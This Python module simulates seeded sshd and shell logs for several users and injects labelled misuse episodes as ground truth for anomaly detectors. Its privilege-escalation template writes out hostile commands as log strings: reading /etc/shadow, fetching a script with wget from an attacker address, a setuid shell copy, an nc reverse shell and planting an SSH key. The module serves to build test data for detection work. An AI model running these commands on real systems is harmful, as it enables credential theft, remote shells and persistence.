"""Seeded simulation of operation and security logs with injected misuse.

Every user has a personal profile: a command vocabulary (a subset of a role's commands,
a few shared ones and some personal ones naming their own files), a Markov chain over
it with user-specific transition probabilities, working hours, usual hosts and a usual
source address. Sessions open with an sshd ``Accepted ...`` line (now and then after a
mistyped password), run a chain of shell commands and close with ``Disconnected ...``.

Injected misuse, each with a :class:`LogFault` record:

* ``masquerade``: a session on a victim's account whose commands come from another
  user's chain (``source`` names that user);
* ``privilege_escalation``: a recon-and-persist sequence (``sudo -l``,
  ``cat /etc/shadow``, ``chmod u+s ...``, ``wget ...``, ``nc -e ...``);
* ``brute_force``: a burst of failed logins from a new address (``source``), then maybe
  a success;
* ``unusual_hour``: a login and a few commands far outside working hours.

Addresses are documentation ranges (192.0.2.0/24 for workstations, 198.51.100.0/24 for
the VPN, 203.0.113.0/24 for attackers); they only ever appear inside message text.
"""

from __future__ import annotations

import math
from collections.abc import Iterator, Sequence
from dataclasses import asdict, dataclass
from datetime import UTC, datetime
from typing import Any

import numpy as np

#: Every kind of log misuse :func:`simulate_oplogs` can inject.
LOG_FAULT_KINDS: tuple[str, ...] = (
    "masquerade",
    "privilege_escalation",
    "brute_force",
    "unusual_hour",
)

#: 2024-01-01T00:00:00Z, the same epoch as the plant simulation.
DEFAULT_START_TS = 1_704_067_200.0

_DAY = 86_400.0

_NAMES = ("alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy")
_HOSTS = ("web-01", "db-01", "build-01", "gpu-01", "bastion-01")
_PROJECTS = ("atlas", "hermes", "kestrel", "nimbus", "orion", "pylon", "quasar", "vega")

_ROLES: dict[str, tuple[str, ...]] = {
    "dev": (
        "git status",
        "git pull",
        "git log --oneline -n 20",
        "git diff",
        "git commit -m 'wip'",
        "git push origin main",
        "make",
        "make test",
        "pytest -q",
        "vim src/main.py",
        "docker ps",
        "docker compose up -d",
        "npm install",
        "npm run build",
        "grep -rn TODO src/",
        "tail -f logs/app.log",
    ),
    "dba": (
        "psql -U postgres",
        "pg_dump -Fc appdb -f /backup/appdb.dump",
        "systemctl status postgresql",
        "du -sh /var/lib/postgresql",
        "vacuumdb --all --analyze",
        "tail -n 100 /var/log/postgresql/postgresql-15-main.log",
        "iostat -x 5 3",
        "pg_isready",
        "crontab -l",
        "psql -c 'select count(*) from pg_stat_activity'",
        "ls -lh /backup",
        "df -h /var/lib/postgresql",
    ),
    "ops": (
        "systemctl status nginx",
        "sudo systemctl restart nginx",
        "journalctl -u nginx --since today",
        "apt list --upgradable",
        "sudo apt-get update",
        "top -b -n 1",
        "free -m",
        "df -h",
        "uptime",
        "ss -tlnp",
        "ip addr",
        "sudo tail -n 50 /var/log/syslog",
        "ansible-playbook site.yml --check",
        "htop",
    ),
    "data": (
        "python3 train.py --epochs 10",
        "jupyter lab --no-browser",
        "nvidia-smi",
        "ls -lh data/",
        "head -n 5 data/train.csv",
        "wc -l data/train.csv",
        "conda activate ml",
        "pip list",
        "du -sh models/",
        "tensorboard --logdir runs",
        "watch -n 5 nvidia-smi",
        "scp results.tar.gz backup:/srv/results/",
    ),
}
_SHARED = ("ls", "ls -la", "cd ~", "pwd", "history", "whoami", "clear", "cat README.md")

#: The core of a privilege escalation, in order; ``{ip}`` is the attacker's address.
_ESCALATION = (
    "sudo -l",
    "cat /etc/shadow",
    "wget http://{ip}/x.sh -O /tmp/.x.sh",
    "cp /bin/bash /tmp/.sh && chmod u+s /tmp/.sh",
    "nc -e /bin/sh {ip} 4444",
)
#: Recon and persistence steps sprinkled into the core sequence.
_ESCALATION_EXTRA = (
    "id",
    "find / -perm -4000 -type f 2>/dev/null",
    "chmod +x /tmp/.x.sh",
    "echo 'ssh-rsa AAAAB3Nza... k' >> ~/.ssh/authorized_keys",
)


@dataclass(frozen=True)
class LogFault:
    """Ground truth of one injected misuse.

    Every injected event has ``start_ts <= ts <= end_ts`` (both ends inclusive) and the
    given ``user`` and ``host``; ``n_events`` counts them. ``source`` is the
    masquerading user or the attacker's address, where that applies.
    """

    user: str
    host: str
    kind: str
    start_ts: float
    end_ts: float
    n_events: int
    source: str | None = None

    def to_json(self) -> dict[str, Any]:
        """This fault as a JSON-safe dict."""
        return asdict(self)

    @classmethod
    def from_json(cls, d: dict[str, Any]) -> LogFault:
        """Rebuild a fault from :meth:`to_json` output."""
        return cls(
            user=str(d["user"]),
            host=str(d["host"]),
            kind=str(d["kind"]),
            start_ts=float(d["start_ts"]),
            end_ts=float(d["end_ts"]),
            n_events=int(d["n_events"]),
            source=None if d.get("source") is None else str(d["source"]),
        )


@dataclass(frozen=True)
class UserProfile:
    """Habits of one simulated user."""

    name: str
    role: str
    vocabulary: tuple[str, ...]
    transitions: np.ndarray  # (V, V) row-stochastic
    initial: np.ndarray  # (V,)
    work_start_h: float
    work_hours: float
    hosts: tuple[str, ...]
    address: str
    auth_method: str


@dataclass
class LogRun:
    """Result of :func:`simulate_oplogs`.

    Attributes
    ----------
    events : list of dict
        ``{"host", "user", "source", "ts", "message"}`` in time order; ``source`` is
        ``"shell"`` or ``"auth"``.
    faults : list of LogFault
        Injected misuse (ground truth).
    fault_index : list of int
        Per event, the index into ``faults`` of the fault that produced it, or ``-1``.
    pids : list of int
        Per event, the process id shown in :meth:`raw_lines`.
    profiles : dict of str to UserProfile
        The users' habits.
    hosts : list of str
        All hosts.
    """

    events: list[dict[str, Any]]
    faults: list[LogFault]
    fault_index: list[int]
    pids: list[int]
    profiles: dict[str, UserProfile]
    hosts: list[str]
    seed: int = 0

    @property
    def users(self) -> list[str]:
        """User names."""
        return list(self.profiles)

    @property
    def vocabularies(self) -> dict[str, tuple[str, ...]]:
        """Each user's normal command vocabulary."""
        return {u: p.vocabulary for u, p in self.profiles.items()}

    def to_truth_json(self) -> dict[str, Any]:
        """Ground truth as a JSON-safe dict."""
        return {
            "kind": "oplogs",
            "seed": self.seed,
            "users": self.users,
            "hosts": list(self.hosts),
            "n_events": len(self.events),
            "faults": [f.to_json() for f in self.faults],
            "fault_events": [i for i, k in enumerate(self.fault_index) if k >= 0],
        }

    def raw_lines(self) -> Iterator[str]:
        """Events as syslog-style text lines (``Mon dd HH:MM:SS host prog[pid]: ...``)."""
        for ev, pid in zip(self.events, self.pids, strict=True):
            stamp = datetime.fromtimestamp(ev["ts"], UTC).strftime("%b %d %H:%M:%S")
            if ev["source"] == "auth":
                yield f"{stamp} {ev['host']} sshd[{pid}]: {ev['message']}"
            else:
                yield f"{stamp} {ev['host']} bash[{pid}]: user={ev['user']} cmd={ev['message']}"


def log_faults_from_truth_json(truth: dict[str, Any]) -> list[LogFault]:
    """The faults of a :meth:`LogRun.to_truth_json` dict."""
    return [LogFault.from_json(f) for f in truth["faults"]]


# An event under construction: (ts, host, user, source, message, pid, fault index).
_Ev = tuple[float, str, str, str, str, int, int]


def simulate_oplogs(
    n_users: int = 5,
    n_events: int = 5_000,
    seed: int = 0,
    faults: int | Sequence[str] = 4,
    *,
    n_hosts: int = 3,
    start_ts: float = DEFAULT_START_TS,
    warmup: float = 0.3,
) -> LogRun:
    """Simulate operation logs of ``n_users`` users on ``n_hosts`` hosts.

    Parameters
    ----------
    n_users : int
        Number of users (named alice, bob, ... then ``user10`` onwards).
    n_events : int
        Number of normal events; injected misuse adds its own events on top.
    seed : int
        Seed; the same seed gives the same run.
    faults : int or sequence of str
        How many misuse episodes to inject (kinds cycled in :data:`LOG_FAULT_KINDS`
        order), or the list of their kinds.
    n_hosts : int
        Number of hosts.
    start_ts : float
        Epoch timestamp of the first simulated midnight.
    warmup : float
        Fraction of the normal time span, from its start, that stays misuse-free.

    Returns
    -------
    LogRun
        Events in time order with ground truth.

    Examples
    --------
    >>> run = simulate_oplogs(n_users=2, n_events=50, faults=0)
    >>> len(run.events), sorted(run.events[0])
    (50, ['host', 'message', 'source', 'ts', 'user'])
    """
    if isinstance(faults, int):
        kinds = [LOG_FAULT_KINDS[i % len(LOG_FAULT_KINDS)] for i in range(faults)]
    else:
        kinds = list(faults)
    bad = [k for k in kinds if k not in LOG_FAULT_KINDS]
    if bad:
        raise ValueError(f"unknown log fault kinds {bad}; expected {LOG_FAULT_KINDS}")
    if n_users < 1 or n_hosts < 1 or n_events < 0:
        raise ValueError("need n_users >= 1, n_hosts >= 1 and n_events >= 0")
    if "masquerade" in kinds and n_users < 2:
        raise ValueError("masquerade needs at least two users")

    rng = np.random.default_rng(seed)
    hosts = [_HOSTS[i] if i < len(_HOSTS) else f"host-{i:02d}" for i in range(n_hosts)]
    profiles = {p.name: p for p in (_make_profile(i, hosts, rng) for i in range(n_users))}
    pid = _PidSource(rng)

    normal: list[_Ev] = []
    day = 0
    while len(normal) < n_events:
        for prof in profiles.values():
            normal.extend(_user_day(prof, start_ts + day * _DAY, rng, pid))
        day += 1
    normal.sort(key=lambda e: e[0])
    normal = normal[:n_events]

    # Misuse draws from its own generator, so adding faults leaves normal traffic as is.
    frng = np.random.default_rng([seed, 0xBAD])
    t_lo = normal[0][0] if normal else start_ts
    t_hi = normal[-1][0] if normal else start_ts + _DAY
    t_first = t_lo + warmup * (t_hi - t_lo)
    injected: list[_Ev] = []
    truth: list[LogFault] = []
    busy: list[tuple[float, float]] = []
    for k, kind in enumerate(kinds):
        evs, fault = _inject(kind, k, profiles, hosts, t_first, t_hi, start_ts, busy, frng, pid)
        busy.append((fault.start_ts, fault.end_ts))
        injected.extend(evs)
        truth.append(fault)

    merged = sorted(normal + injected, key=lambda e: e[0])
    events = [
        {"host": h, "user": u, "source": s, "ts": ts, "message": m}
        for ts, h, u, s, m, _, _ in merged
    ]
    return LogRun(
        events=events,
        faults=truth,
        fault_index=[e[6] for e in merged],
        pids=[e[5] for e in merged],
        profiles=profiles,
        hosts=hosts,
        seed=seed,
    )


class _PidSource:
    """Increasing, plausible process ids."""

    def __init__(self, rng: np.random.Generator) -> None:
        self._next = int(rng.integers(1_000, 5_000))

    def __call__(self) -> int:
        self._next = self._next + 1 + (self._next * 7919) % 13  # irregular but deterministic
        if self._next > 4_000_000:
            self._next = 1_000
        return self._next


def _make_profile(i: int, hosts: Sequence[str], rng: np.random.Generator) -> UserProfile:
    """Draw one user's habits."""
    name = _NAMES[i] if i < len(_NAMES) else f"user{i}"
    role_names = list(_ROLES)
    role = role_names[i % len(role_names)]
    pool = _ROLES[role]
    own = rng.choice(len(pool), size=max(4, int(0.7 * len(pool))), replace=False)
    shared = rng.choice(len(_SHARED), size=4, replace=False)
    projects = rng.choice(len(_PROJECTS), size=2, replace=False)
    personal = [f"cd ~/projects/{_PROJECTS[p]}" for p in projects]
    personal += [f"vim ~/notes/{name}.md", f"ls ~/projects/{_PROJECTS[projects[0]]}/{name}"]
    vocab = tuple(
        dict.fromkeys(
            [pool[j] for j in sorted(own)] + [_SHARED[j] for j in sorted(shared)] + personal
        )
    )
    v = len(vocab)
    # A small Dirichlet concentration gives peaked, personal habits.
    transitions = rng.dirichlet(np.full(v, 0.3), size=v)
    initial = rng.dirichlet(np.full(v, 0.5))
    n_home = 1 if len(hosts) == 1 else int(rng.integers(1, min(3, len(hosts)) + 1))
    home = tuple(hosts[j] for j in sorted(rng.choice(len(hosts), size=n_home, replace=False)))
    return UserProfile(
        name=name,
        role=role,
        vocabulary=vocab,
        transitions=transitions,
        initial=initial,
        work_start_h=float(rng.uniform(7.0, 10.0)),
        work_hours=float(rng.uniform(7.0, 9.0)),
        hosts=home,
        address=f"192.0.2.{10 + i}" if i < 200 else f"198.51.100.{i % 200 + 10}",
        auth_method="publickey" if rng.random() < 0.5 else "password",
    )


def _chain(prof: UserProfile, n: int, rng: np.random.Generator) -> list[str]:
    """``n`` commands from ``prof``'s Markov chain."""
    state = int(rng.choice(len(prof.vocabulary), p=prof.initial))
    out = [prof.vocabulary[state]]
    for _ in range(n - 1):
        state = int(rng.choice(len(prof.vocabulary), p=prof.transitions[state]))
        out.append(prof.vocabulary[state])
    return out


def _session(
    prof: UserProfile,
    t0: float,
    host: str,
    address: str,
    commands: Sequence[str],
    rng: np.random.Generator,
    pid: _PidSource,
    fault: int = -1,
    typo: bool = False,
) -> list[_Ev]:
    """Login, ``commands`` at human pace, logout, starting at ``t0``."""
    sshd, bash, port = pid(), pid(), int(rng.integers(40_000, 65_000))
    user, t = prof.name, t0
    evs: list[_Ev] = []
    if typo:
        msg = f"Failed password for {user} from {address} port {port} ssh2"
        evs.append((round(t, 3), host, user, "auth", msg, sshd, fault))
        t += float(rng.uniform(3.0, 10.0))
    method = prof.auth_method
    msg = f"Accepted {method} for {user} from {address} port {port} ssh2"
    evs.append((round(t, 3), host, user, "auth", msg, sshd, fault))
    for cmd in commands:
        t += 2.0 + float(rng.exponential(25.0))
        evs.append((round(t, 3), host, user, "shell", cmd, bash, fault))
    t += 2.0 + float(rng.exponential(10.0))
    msg = f"Disconnected from user {user} {address} port {port}"
    evs.append((round(t, 3), host, user, "auth", msg, sshd, fault))
    return evs


def _user_day(
    prof: UserProfile, midnight: float, rng: np.random.Generator, pid: _PidSource
) -> list[_Ev]:
    """One working day of ``prof``: a few sessions inside working hours."""
    evs: list[_Ev] = []
    n_sessions = 1 + int(rng.poisson(3.0))
    starts = np.sort(rng.uniform(0.0, prof.work_hours * 3600.0, n_sessions))
    for s in starts:
        t0 = midnight + prof.work_start_h * 3600.0 + float(s)
        host = prof.hosts[int(rng.integers(len(prof.hosts)))]
        addr = prof.address if rng.random() < 0.85 else f"198.51.100.{int(rng.integers(2, 250))}"
        n_cmd = 2 + int(rng.geometric(1 / 12))
        cmds = _chain(prof, n_cmd, rng)
        evs.extend(_session(prof, t0, host, addr, cmds, rng, pid, typo=rng.random() < 0.05))
    return evs


def _inject(
    kind: str,
    k: int,
    profiles: dict[str, UserProfile],
    hosts: Sequence[str],
    t_first: float,
    t_hi: float,
    start_ts: float,
    busy: Sequence[tuple[float, float]],
    rng: np.random.Generator,
    pid: _PidSource,
) -> tuple[list[_Ev], LogFault]:
    """Events and ground truth of the ``k``-th misuse episode."""
    names = list(profiles)
    for _ in range(1_000):
        victim = profiles[names[int(rng.integers(len(names)))]]
        host = victim.hosts[int(rng.integers(len(victim.hosts)))]
        day = math.floor((t_first + rng.random() * max(t_hi - t_first, 1.0) - start_ts) / _DAY)
        midnight = start_ts + day * _DAY
        in_hours = midnight + (victim.work_start_h + rng.random() * victim.work_hours) * 3600.0
        source: str | None = None
        if kind == "masquerade":
            others = [p for p in profiles.values() if p.name != victim.name]
            other_roles = [p for p in others if p.role != victim.role] or others
            other = other_roles[int(rng.integers(len(other_roles)))]
            source = other.name
            cmds = _chain(other, int(rng.integers(20, 41)), rng)
            evs = _session(victim, in_hours, host, victim.address, cmds, rng, pid, fault=k)
        elif kind == "privilege_escalation":
            source = f"203.0.113.{int(rng.integers(2, 250))}"
            cmds = [c.format(ip=source) for c in _ESCALATION]
            for extra in _ESCALATION_EXTRA:
                if rng.random() < 0.5:
                    cmds.insert(int(rng.integers(1, len(cmds) + 1)), extra)
            t, bash, evs = in_hours, pid(), []
            for cmd in cmds:
                t += float(rng.uniform(3.0, 20.0))
                evs.append((round(t, 3), host, victim.name, "shell", cmd, bash, k))
        elif kind == "brute_force":
            host = hosts[int(rng.integers(len(hosts)))]
            source = f"203.0.113.{int(rng.integers(2, 250))}"
            t = midnight + rng.random() * _DAY
            evs = []
            for _ in range(int(rng.integers(20, 61))):
                port, sshd = int(rng.integers(30_000, 65_000)), pid()
                msg = f"Failed password for {victim.name} from {source} port {port} ssh2"
                evs.append((round(t, 3), host, victim.name, "auth", msg, sshd, k))
                t += float(rng.uniform(0.5, 3.0))
            if rng.random() < 0.5:
                port, sshd = int(rng.integers(30_000, 65_000)), pid()
                msg = f"Accepted password for {victim.name} from {source} port {port} ssh2"
                evs.append((round(t, 3), host, victim.name, "auth", msg, sshd, k))
        else:  # unusual_hour: 1-4 h after midnight, far from any working day
            t0 = midnight + float(rng.uniform(1.0, 4.0)) * 3600.0
            cmds = _chain(victim, int(rng.integers(3, 11)), rng)
            evs = _session(victim, t0, host, victim.address, cmds, rng, pid, fault=k)
        lo, hi = evs[0][0], evs[-1][0]
        # Keep episodes apart (an hour of margin) so each one's truth is unambiguous.
        if lo >= t_first and all(hi + 3600 < a or b + 3600 < lo for a, b in busy):
            fault = LogFault(victim.name, host, kind, lo, hi, len(evs), source)
            return evs, fault
    raise ValueError("could not place log misuse episodes; raise n_events or lower faults")
